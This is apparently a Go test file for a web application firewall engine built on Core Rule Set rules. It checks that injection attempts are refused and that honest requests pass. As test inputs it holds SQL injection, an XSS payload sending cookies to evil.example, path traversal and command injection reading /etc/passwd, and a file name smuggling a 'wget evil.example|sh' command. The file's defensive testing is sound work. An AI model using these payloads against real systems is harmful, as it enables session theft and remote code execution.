package crs_test

import (
	"bytes"
	"errors"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	fumehood "github.com/fumehood/fumehood"
	"github.com/fumehood/fumehood/guard/injection/crs"
	"github.com/fumehood/fumehood/internal/hint"
	"github.com/fumehood/fumehood/internal/unnamed"
	"github.com/fumehood/fumehood/internal/wholebody"
)

// shared is compiled once: that is how it is meant to be used.
var shared = sync.OnceValues(func() (*crs.Engine, error) { return crs.New(crs.Config{}) })

func engine(t *testing.T) *crs.Engine {
	t.Helper()
	e, err := shared()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// request is what a browser sends; a body is in memory, as guard/body leaves it.
func request(method, target, kind, body string) *http.Request {
	r := httptest.NewRequest(method, target, nil)
	r.Host = "shop.example"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
	r.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
	if kind != "" {
		r.Header.Set("Content-Type", kind)
		r.ContentLength = int64(len(body))
		r.Body = wholebody.InMemory([]byte(body), nil)
	}
	return r
}

const form, jsonKind = "application/x-www-form-urlencoded", "application/json"

// upload is a form with one field and one file.
func upload(t *testing.T, value, file string) (kind, body string) {
	t.Helper()
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	w.WriteField("title", value)
	part, err := w.CreateFormFile("file", file)
	if err != nil {
		t.Fatal(err)
	}
	part.Write(bytes.Repeat([]byte("<script>"), 1000))
	w.Close()
	return w.FormDataContentType(), b.String()
}

func refused(t *testing.T, err error, code string) *fumehood.Refusal {
	t.Helper()
	var refusal *fumehood.Refusal
	if !errors.As(err, &refusal) {
		t.Fatalf("%v instead of the refusal %s", err, code)
	}
	if refusal.Code != code {
		t.Fatalf("refused with %v, not with %s", refusal, code)
	}
	return refusal
}

func TestAttacksAreRefused(t *testing.T) {
	t.Parallel()
	e := engine(t)
	attacks := map[string]string{
		"sql":       `7' UNION SELECT name, pass FROM users -- `,
		"html":      `<img src=x onerror=fetch('//evil.example/'+document.cookie)>`,
		"traversal": `../../../../etc/passwd`,
		"command":   `8.8.8.8; cat /etc/passwd`,
	}
	for class, attack := range attacks {
		named := request("GET", "/", "", "")
		named.Header.Set("Referer", "https://shop.example/?q="+attack)
		inPath := request("GET", "/", "", "")
		inPath.URL = &url.URL{Path: "/notes/" + attack}
		kind, body := upload(t, attack, "photo.jpg")
		for place, r := range map[string]*http.Request{
			"query":     request("GET", "/?q="+url.QueryEscape(attack), "", ""),
			"form":      request("POST", "/", form, "q="+url.QueryEscape(attack)),
			"json":      request("POST", "/", jsonKind, `{"a":{"b":["`+strings.ReplaceAll(attack, `"`, `\"`)+`"]}}`),
			"multipart": request("POST", "/", kind, body),
			"referer":   named,
			"path":      inPath,
		} {
			if (place == "referer" || place == "path") && class != "html" {
				continue // the rules look there for some classes only
			}
			t.Run(class+" in "+place, func(t *testing.T) {
				refusal := refused(t, e.Check(r), "injection.crs")
				if refusal.Status != http.StatusForbidden || !strings.Contains(refusal.Err.Error(), "rule 9") {
					t.Errorf("%d, %v", refusal.Status, refusal.Err)
				}
				if strings.Contains(refusal.Error(), attack) {
					t.Errorf("the log gets the value: %v", refusal.Err)
				}
			})
		}
	}
}

func TestAFileNameIsLookedAtAndAFileIsNot(t *testing.T) {
	t.Parallel()
	kind, body := upload(t, "My holidays", "photo.jpg")
	if err := engine(t).Check(request("POST", "/", kind, body)); err != nil {
		t.Error(err)
	}
	kind, body = upload(t, "My holidays", "x;cat<`/etc/passwd`;wget -O- evil.example|sh.jpg")
	refused(t, engine(t).Check(request("POST", "/", kind, body)), "injection.crs")
}

func TestHonestRequestsPass(t *testing.T) {
	t.Parallel()
	for name, r := range map[string]*http.Request{
		"page":   request("GET", "/notes/12?page=2&sort=title", "", ""),
		"login":  request("POST", "/login", form, "name=anna&password=correct+horse+battery+staple"),
		"name":   request("POST", "/people", form, url.Values{"name": {"Siobhán O'Brien"}, "at": {"AT&T"}}.Encode()),
		"json":   request("PUT", "/api/notes/1", jsonKind, `{"title": "Shopping", "done": false, "tags": ["food", "home"]}`),
		"delete": request("DELETE", "/api/notes/1", "", ""),
		"empty":  request("POST", "/logout", form, ""),
	} {
		if err := engine(t).Check(r); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestTheBodyStaysAsItWas(t *testing.T) {
	t.Parallel()
	const content = "title=Shopping&text=eggs+and+milk"
	file, err := unnamed.File(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(file, content)
	for name, body := range map[string]io.ReadCloser{
		"memory": wholebody.InMemory([]byte(content), nil),
		"file":   wholebody.InFile(file, int64(len(content))),
	} {
		r := request("POST", "/", form, "")
		r.Body = body
		if err := engine(t).Check(r); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if r.Body != body {
			t.Errorf("%s: another body stands in its place", name)
		}
		if got, err := io.ReadAll(r.Body); string(got) != content || err != nil {
			t.Errorf("%s: %q, %v is left of the body", name, got, err)
		}
	}
}

func TestAnAttackInAFileBodyIsRefused(t *testing.T) {
	t.Parallel()
	file, err := unnamed.File(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	n, _ := io.WriteString(file, "q="+url.QueryEscape("1' OR '1'='1' UNION SELECT 1,2 -- "))
	r := request("POST", "/", form, "")
	r.Body = wholebody.InFile(file, int64(n))
	refused(t, engine(t).Check(r), "injection.crs")
}

// streamed is a body that arrives while the app works.
type streamed struct {
	t *testing.T
	io.Closer
}

func (s streamed) Read([]byte) (int, error) { s.t.Error("the body was read"); return 0, io.EOF }

func TestAStreamIsNotRead(t *testing.T) {
	t.Parallel()
	r := request("POST", "/", form, "")
	r.Body = streamed{t, io.NopCloser(nil)}
	if err := engine(t).Check(r); err != nil {
		t.Error(err)
	}
}

func TestWhatCannotBeLookedAtWholeIsRefused(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", 128<<10)
	refused(t, engine(t).Check(request("POST", "/", form, "a="+long)), "injection.crs-long")
	kind, body := upload(t, long, "photo.jpg")
	refused(t, engine(t).Check(request("POST", "/", kind, body)), "injection.crs-long")
	refused(t, engine(t).Check(request("POST", "/", kind, body[:len(body)/2])), "injection.crs-damaged")
	refused(t, engine(t).Check(request("POST", "/", jsonKind, `{"a": "<script>`)), "injection.crs-damaged")
}

func TestParanoiaAndThreshold(t *testing.T) {
	t.Parallel()
	strict, err := crs.New(crs.Config{Paranoia: 2})
	if err != nil {
		t.Fatal(err)
	}
	odd := func() *http.Request { // the rules know templates from level 2 on
		return request("POST", "/", form, "q="+url.QueryEscape("{{ ''.__class__.__mro__[1].__subclasses__() }}"))
	}
	if err := engine(t).Check(odd()); err != nil {
		t.Errorf("level 1: %v", err)
	}
	refused(t, strict.Check(odd()), "injection.crs")
	lax, err := crs.New(crs.Config{Threshold: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if err := lax.Check(request("GET", "/?q=..%2F..%2Fetc%2Fpasswd", "", "")); err != nil {
		t.Errorf("threshold 1000: %v", err)
	}
}

func TestDirectivesOfTheOwner(t *testing.T) {
	t.Parallel()
	file := filepath.Join(t.TempDir(), "own.conf")
	text := `SecRule ARGS:coupon "@streq abuse" "id:7,phase:2,deny,log"` + "\nSecRuleRemoveById 930100-930130 932160"
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	e, err := crs.New(crs.Config{Rules: file})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Check(request("GET", "/?q=..%2F..%2Fetc%2Fpasswd", "", "")); err != nil {
		t.Errorf("with those rules removed: %v", err)
	}
	refusal := refused(t, e.Check(request("GET", "/?coupon=abuse", "", "")), "injection.crs")
	if !strings.HasSuffix(refusal.Err.Error(), "rule 7") {
		t.Error(refusal.Err)
	}
}

func TestMistakesInTheConfiguration(t *testing.T) {
	t.Parallel()
	bad := filepath.Join(t.TempDir(), "bad.conf")
	if err := os.WriteFile(bad, []byte("SecNonsense On"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err := crs.New(crs.Config{Paranoia: 5, Threshold: -1, Body: 5, Rules: filepath.Join(t.TempDir(), "none")})
	for _, key := range []string{"paranoia", "threshold", "body", "rules"} {
		if err == nil || !strings.Contains(err.Error(), "crs."+key+":") {
			t.Errorf("%s is not in %v", key, err)
		}
	}
	if _, err := crs.New(crs.Config{Rules: bad}); err == nil || hint.Of(err) == "" {
		t.Errorf("an unknown directive: %v", err)
	}
}

func TestAnEngineThatWasNotMadeRefuses(t *testing.T) {
	t.Parallel()
	var none *crs.Engine
	refused(t, none.Check(request("GET", "/", "", "")), "injection.not-ready")
	refused(t, (&crs.Engine{}).Check(request("GET", "/", "", "")), "injection.not-ready")
}

func BenchmarkCheck(b *testing.B) {
	e, err := shared()
	if err != nil {
		b.Fatal(err)
	}
	for name, body := range map[string]string{
		"login": "name=anna&password=correct+horse+battery+staple",
		"10 KB": "text=" + strings.Repeat("a", 10<<10),
	} {
		r := request("POST", "/", form, body)
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if err := e.Check(r); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
